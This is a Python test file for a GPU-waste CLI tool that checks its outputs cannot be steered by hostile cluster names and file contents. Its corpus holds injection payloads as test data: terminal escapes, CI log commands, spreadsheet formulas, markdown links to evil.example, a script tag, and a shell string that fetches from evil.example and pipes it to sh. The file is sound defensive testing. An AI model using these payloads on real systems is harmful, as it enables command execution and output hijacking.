#!/usr/bin/env python3
"""One corpus over all sinks: what tenants, servers and files say steers no terminal, no log, no spreadsheet, no renderer and no shell.

usage: GPUWASTE=target/debug/gpuwaste python3 tests/armour/test_sinks.py
"""
import csv, json, pathlib, re, shlex, subprocess, sys, tempfile, unittest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import fake
from world import deployment, folder, gpuwaste, node, owned, page, pod

HARMFUL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\U000e0000-\U000e0fff]")
CORPUS = [
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "a\u202eb", "a\u061cb", "a\u00adb", "a\U000e0041b", "a\u3164b", "a\u200bb", "\r\n::error::x", "\n::add-mask::x", "##[add-mask]x", "x ##vso[task.complete]y", "::set-output name=a::b",
    '=HYPERLINK("http://x")', "x;=1+1", 'x";=1+1', "@SUM(1)", "[x](https://evil.example)", "{0} {1}", "<script>alert(1)</script>", "![x](https://evil.example/p.png)", "@everyone", "`x` | y", "';curl${IFS}evil.example|sh;'", "$(id)", "a'b\"c",
]


def strings(value):
    if isinstance(value, dict):
        for k, v in value.items():
            yield from strings(k)
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)
    elif isinstance(value, str):
        yield value


class Sinks(unittest.TestCase):
    def check(self, form, done, odd):
        self.assertNotIn("panicked", done.stderr)
        for text in (done.stdout, done.stderr):
            # Markdown's own: a word joiner keeps mentions and links from being made.
            seen = text.replace("\u2060", "") if form == "markdown" else text
            self.assertIsNone(HARMFUL.search(seen), (form, odd, HARMFUL.search(seen)))
            lines = text.split("\n")
            if form not in ("json", "sarif"):
                self.assertNotIn("##[", text)
                self.assertNotIn("##vso[", text)
            self.assertFalse([l for l in lines if l.strip().startswith("::")], (form, odd))
        if form == "csv" and done.stdout:
            for row in csv.reader(done.stdout.splitlines()):
                for cell in row:
                    for part in cell.split(";"):
                        self.assertFalse(part.lstrip(' "').startswith(("=", "+", "@", "\uff1d")), (odd, cell))
        if form == "sarif" and done.stdout:
            document = json.loads(done.stdout)
            messages = [r["message"]["text"] for run in document["runs"] for r in run["results"]]
            messages += [n["message"]["text"] for run in document["runs"] for i in run["invocations"] for n in i["toolExecutionNotifications"]]
            for message in messages:
                self.assertNotRegex(message, r"(?<!\\)\[[^\]\\]*\]\(")
                self.assertNotRegex(message, r"(?<!\{)\{\d+\}(?!\})")
        if form == "prometheus":
            series = [l.rsplit(" ", 1)[0] for l in done.stdout.splitlines() if not l.startswith("#")]
            self.assertEqual(len(series), len(set(series)), "one line a series")

    def test_whatever_a_cluster_says(self):
        # By a snapshot, since a real API server refuses most of these names; a hostile one does not.
        fleet = [node("gpu-1"), owned("web", "gpu-1", gpus=2, args=("--model", "ODD", "--tensor-parallel-size", "1")), *deployment("web"), pod("stuck", "gpu-1", gpus=2, crash=True)]
        with tempfile.TemporaryDirectory() as name:
            path = pathlib.Path(name) / "s.json"
            with fake.serve(fake.World(fleet)) as server, fake.config(server) as config:
                done = gpuwaste("collect", "--no-scrape", "--prometheus", "none", "-o", path, config=config)
                self.assertEqual(done.returncode, 0, done.stderr)
            whole = json.loads(path.read_text())
            for odd in CORPUS:
                snapshot = json.loads(json.dumps(whole).replace('"ODD"', json.dumps(odd)))
                cluster = snapshot["clusters"][0]
                cluster["name"] = odd
                for one in cluster["pods"]:
                    one["namespace"] = odd
                    one["name"] += odd
                for one in cluster["controllers"]:
                    one["namespace"] = odd
                for host in cluster["nodes"]:
                    host["labels"]["karpenter.sh/nodepool"] = odd
                snapshot["gaps"] = [{"source": odd, "what": odd, "reason": odd, "effect": odd, "remedy": odd}]
                path.write_text(json.dumps(snapshot))
                for form in ("table", "json", "csv", "markdown", "html", "junit", "sarif", "prometheus"):
                    with self.subTest(odd, format=form):
                        done = gpuwaste("scan", "--snapshot", path, "--format", form, "--group-by", "pool", "-v")
                        self.assertEqual(done.returncode, 0, done.stderr)
                        self.check(form, done, odd)
                with self.subTest(odd, format="doctor"):
                    self.check("doctor", gpuwaste("doctor", "--snapshot", path), odd)

    def test_errors(self):
        for odd in CORPUS:
            with self.subTest(odd), folder({"s.json": json.dumps({"schema": odd}), "policy.yaml": f"skip: [{json.dumps(odd)}]\n"}) as place:
                for args in (("scan", "--snapshot", place / "s.json"), ("scan", "--demo", "--policy", place / "policy.yaml"), ("scan", "--snapshot", f"/no/{odd}".replace("\0", "")), ("explain", odd)):
                    self.check("error", gpuwaste(*args), odd)

    def test_a_command_that_is_copied_is_one_command(self):
        for odd in ("a;b", "a b", "a$(id)", "a'b", 'a"b', "-x", "a|sh", "a\u202eb", "a&b"):
            with self.subTest(odd), folder({f"{odd}/kustomization.yaml": "resources: []\n"}) as place:
                done = subprocess.run([str(pathlib.Path(gpuwaste.__globals__["BINARY"]).resolve()), "check", odd if not odd.startswith("-") else f"./{odd}"], cwd=place, capture_output=True, text=True, stdin=subprocess.DEVNULL)
                told = re.search(r"'(kubectl kustomize .* \| gpuwaste check -)'", done.stdout + done.stderr)
                self.assertIsNotNone(told, done.stderr)
                words = shlex.split(told[1])
                self.assertEqual((words[:2], words[3:], len(words)), (["kubectl", "kustomize"], ["|", "gpuwaste", "check", "-"], 7), told[1])


if __name__ == "__main__":
    unittest.main(verbosity=1)
